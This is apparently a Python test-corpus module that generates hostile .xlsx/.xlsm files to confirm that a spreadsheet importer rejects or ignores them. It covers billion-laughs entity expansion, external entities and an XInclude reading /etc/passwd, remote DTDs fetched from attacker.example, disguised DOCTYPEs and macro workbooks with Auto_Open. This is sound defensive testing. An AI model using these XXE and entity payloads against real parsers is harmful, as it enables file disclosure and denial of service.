"""XML-level cases of the hostile corpus: entity expansion (billion laughs), external entities and
DTDs in every part, DOCTYPEs hidden by padding, UTF-16 or an odd part name, XInclude; and macro-enabled
workbooks, whose values load while the macros are never run."""

from __future__ import annotations

import re

from corpus_builders import LAUGHS, SHEET1, XXE, edit, good_book, ole, parts_of, prolog, rezip, with_shared_strings
from corpus_model import Case, accepted, registrars

C: list[Case] = []
case, file_level = registrars(C)


def sheet_as_dat_with_doctype() -> bytes:
    parts = parts_of(good_book("DT"))
    parts["xl/worksheets/sheet1.dat"] = prolog(XXE)(parts.pop(SHEET1))
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(b"sheet1.xml", b"sheet1.dat")
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b'<Override PartName="/xl/worksheets/sheet1.xml"', b'<Override PartName="/xl/worksheets/sheet1.dat"')
    return rezip(parts)


def utf16_workbook_doctype() -> bytes:
    def change(xml: bytes) -> bytes:
        text = prolog(LAUGHS)(xml).decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
        return b"\xff\xfe" + text.encode("utf-16-le")
    return edit(good_book("U16"), "xl/workbook.xml", change)


def padded_doctype() -> bytes:
    def change(xml: bytes) -> bytes:
        body = re.sub(rb"^<\?xml[^>]*\?>\s*", b"", xml)
        return b'<?xml version="1.0" encoding="UTF-8"?>' + b" " * 70_000 + XXE.encode() + body
    return edit(good_book("PD"), SHEET1, change)


def xinclude() -> bytes:
    def change(xml: bytes) -> bytes:
        xml = xml.replace(b"<worksheet ", b'<worksheet xmlns:xi="http://www.w3.org/2001/XInclude" ', 1)
        return xml.replace(b"<sheetData>", b'<sheetData><xi:include href="file:///etc/passwd" parse="text"/>', 1)
    return edit(good_book("XI"), SHEET1, change)


def macro_enabled(prefix: str = "VB") -> bytes:
    parts = parts_of(good_book(prefix))
    parts["xl/vbaProject.bin"] = ole(["VBA", "dir", "Module1", "PROJECT"])
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    ).replace(b"<Default Extension=\"xml\"", b'<Default Extension="bin" ContentType="application/'
              b'vnd.ms-office.vbaProject"/><Default Extension="xml"')
    return rezip(parts)


XML = "XML entities"
for part, where in (("xl/sharedStrings.xml", "shared strings"), (SHEET1, "the sheet"),
                    ("xl/workbook.xml", "workbook.xml"), ("xl/styles.xml", "styles"),
                    ("[Content_Types].xml", "[Content_Types].xml"), ("_rels/.rels", "the package rels")):
    slug = re.sub(r"[^a-z0-9]+", "_", where.lower()).strip("_")
    file_level(f"billion_laughs_{slug}", XML, f"entity expansion (billion laughs) in {where}",
               (lambda p: lambda: edit(with_shared_strings(good_book("BL")), p, prolog(LAUGHS)))(part),
               "unsafe-xml")
file_level("external_entity_sheet", XML, "external entity file:///etc/passwd in the sheet",
           lambda: edit(good_book("XE"), SHEET1, prolog(XXE)), "unsafe-xml")
file_level("external_dtd_shared_strings", XML, "an external DTD (SYSTEM http://...) in shared strings",
           lambda: edit(with_shared_strings(good_book("XD")), "xl/sharedStrings.xml",
                        prolog('<!DOCTYPE sst SYSTEM "http://attacker.example/x.dtd">')), "unsafe-xml")
file_level("parameter_entity_workbook", XML, "a parameter entity pulling a remote DTD",
           lambda: edit(good_book("PE"), "xl/workbook.xml", prolog(
               '<!DOCTYPE w [<!ENTITY % remote SYSTEM "http://attacker.example/e.dtd"> %remote;]>')),
           "unsafe-xml")
file_level("doctype_after_padding", XML, "DOCTYPE after 70,000 spaces of prolog", padded_doctype, "unsafe-xml")
file_level("doctype_utf16_workbook", XML, "entities in a UTF-16 workbook.xml (NULs between letters)",
           utf16_workbook_doctype, "unsafe-xml")
file_level("doctype_in_part_named_dat", XML, "the sheet moved to sheet1.dat (rels point there) with an XXE",
           sheet_as_dat_with_doctype, "unsafe-xml")
case("shared_strings_control", XML, "the same workbook with Team from shared strings and no DTD: loads",
     lambda: with_shared_strings(good_book("SC")), accepted(2, stored=(("SC-1", "team", "MASH Team"),)))
case("xinclude_never_followed", XML, "an XInclude of /etc/passwd in the sheet: ignored, the data loads",
     xinclude, accepted(2, stored=(("XI-1", "team", "MASH Team"),)))

MAC = "macros"
case("macro_enabled_xlsm", MAC, "an .xlsm with xl/vbaProject.bin: values read, macros never run",
     macro_enabled, accepted(2, ("macros-ignored", None, None, None)), file_name="return.xlsm")

case("macro_auto_open", MAC, "macros plus a defined name Auto_Open (runs on open in Excel): never run",
     lambda: edit(macro_enabled("AO"), "xl/workbook.xml", lambda x: x.replace(
         b"<definedNames />", b'<definedNames><definedName name="Auto_Open">Module1.Run</definedName></definedNames>')),
     accepted(2, ("macros-ignored", None, None, None)), file_name="return.xlsm")
